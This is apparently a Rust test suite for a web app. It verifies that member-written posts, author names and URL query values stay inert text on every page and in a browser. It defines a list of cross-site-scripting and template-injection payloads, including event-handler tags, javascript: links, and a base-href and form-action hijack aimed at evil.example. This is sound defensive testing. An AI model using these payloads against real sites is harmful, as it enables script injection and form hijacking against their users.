//! What members write never becomes markup, a link or a script, on any screen.

use campaigns::facts::PostFact;
use domain::post::{Author, PostFacts};
use domain::snowflake::Snowflake;
use tests::world::seed::{ENTRIES, GUILD, member};

use super::client::form;
use super::stage::Stage;
use super::{browser, screens};

/// Attempts to act on a page, in the ways templates, attributes and addresses have let through elsewhere.
pub(super) const PAYLOADS: [&str; 14] = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "\"><svg onload=window.pwned=1>",
    "' autofocus onfocus=window.pwned=1 x='",
    "</textarea><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "<a href=\"javascript:window.pwned=1\">x</a>",
    "[x](javascript:window.pwned=1)",
    "{{7*7}}{% raw %}${7*7}",
    "<!--<script>window.pwned=1</script>-->",
    "<details open ontoggle=window.pwned=1>",
    "\u{202E}gnp.exe <b>bold</b> \u{200B}",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "<base href=https://evil.example/><form action=https://evil.example><button name=answer>",
];

/// Posts whose texts and authors' names are attempts; gives their ids.
pub(super) async fn write(stage: &mut Stage) -> Vec<Snowflake> {
    let mut posts = Vec::new();
    for (number, payload) in PAYLOADS.iter().enumerate() {
        let text = format!("#关税政策后市场分析# {payload}");
        let id = Snowflake(Snowflake::first_at(stage.world.now).unwrap().0 + 900 + number as u64);
        let author = Author { id: member(800 + number as u64), name: (*payload).to_owned(), is_bot: false };
        let post = PostFacts { id, channel: ENTRIES, thread: None, author, forward: false };
        stage.world.hear([PostFact::Seen { guild: GUILD, post, text, edited_at: None }]).await;
        posts.push(id);
    }
    stage.world.tick().await;
    stage.catch_up();
    posts
}

/// What queries a page reads, with an attempt in each.
fn queries(stage: &Stage) -> Vec<String> {
    let fields = [
        "shown", "search", "done", "held", "script", "actor", "action", "from", "to", "until", "post",
        "text", "state", "after", "topic", "when", "order", "find", "uid", "range", "how", "likeness",
        "reason", "next", "before", "campaign", "paid",
    ];
    let id = &stage.world.id;
    let mut paths = Vec::new();
    for payload in PAYLOADS {
        let pairs = fields.map(|field| (field, payload));
        let query = form(&pairs);
        let of_server =
            ["/market", "/rules", "/schedule", "/audit", "/people", "/settings", "/account", "/sign-in"];
        paths.extend(of_server.map(|path| format!("{path}?{query}")));
        let of_campaign = ["review", "results", "appeals", "judging", "payouts", "notice", "notice/versions"];
        paths.extend(of_campaign.map(|name| format!("/campaigns/{id}/{name}?{query}")));
        // A field that a page refuses to read would keep the others from it.
        paths.extend(
            fields.map(|field| {
                format!("/campaigns/{id}/review?{}", form(&[("shown", "all"), (field, payload)]))
            }),
        );
        for path in ["/market", "/rules", "/schedule", "/audit", "/people"] {
            let read = ["search", "text", "actor", "from", "state", "topic", "after"];
            paths.extend(read.map(|field| format!("{path}?{}", form(&[(field, payload)]))));
        }
    }
    paths
}

/// Only our own script stands in a page, and no tag of theirs.
fn assert_inert(path: &str, text: &str) {
    assert_eq!(text.matches("<script").count(), text.matches("<script src=\"/assets/").count(), "{path}");
    for tag in ["<img", "<base", "<svg onload", "<b>bold", "href=\"javascript", "<details open"] {
        assert!(!text.contains(tag), "{path}: {tag} in {text}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_members_write_is_text_on_every_screen() {
    for (name, stage, least) in [
        ("furnished", Box::pin(screens::furnished()).await, 100),
        ("frozen", Box::pin(screens::frozen()).await, 20),
        ("decided", Box::pin(screens::decided()).await, 40),
    ] {
        let mut olga = stage.signed_in("olga").await;
        let mut paths = screens::all(&stage, &mut olga).await;
        paths.extend((0..PAYLOADS.len() as u64).map(|number| format!("/people/{}", member(800 + number))));
        let mut shown = 0;
        for path in paths {
            let page = olga.get(&path).await;
            assert_inert(&path, &page.text);
            shown += page.text.matches("pwned").count();
        }
        assert!(shown > least, "{name}: the attempts are on the pages as text, {shown} times");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_stands_in_an_address_is_text_on_every_screen() {
    let stage = Box::pin(screens::decided()).await;
    let mut olga = stage.signed_in("olga").await;
    for path in queries(&stage) {
        assert_inert(&path, &olga.get(&path).await.text);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_that_was_written_acts_in_the_browser() {
    let Some(browser) = browser::start().await else { return };
    for (number, stage) in
        [Box::pin(screens::frozen()).await, Box::pin(screens::decided()).await].iter().enumerate()
    {
        let paths = screens::few(screens::all(stage, &mut stage.signed_in("olga").await).await, 5);
        browser.sign_in(&stage.base, "olga").await;
        for path in paths {
            browser.driver.goto(format!("{}{path}", stage.base)).await.unwrap();
            browser.see("#main").await;
            let acted = "return [window.pwned ?? null, document.baseURI]";
            let acted = browser.driver.execute(acted, vec![]).await.unwrap().json().clone();
            assert!(acted[0].is_null(), "{path}: a script ran");
            assert!(acted[1].as_str().unwrap().starts_with(&stage.base), "{path}: {acted}");
            for (of, name) in
                [("judging", "sheet"), ("appeals", "appeal"), ("payouts", "ledger"), ("results", "result")]
            {
                if path == format!("/campaigns/{}/{of}", stage.world.id) {
                    browser.picture(&format!("attempts-{name}-{number}")).await;
                }
            }
        }
    }
    browser.quit().await;
}
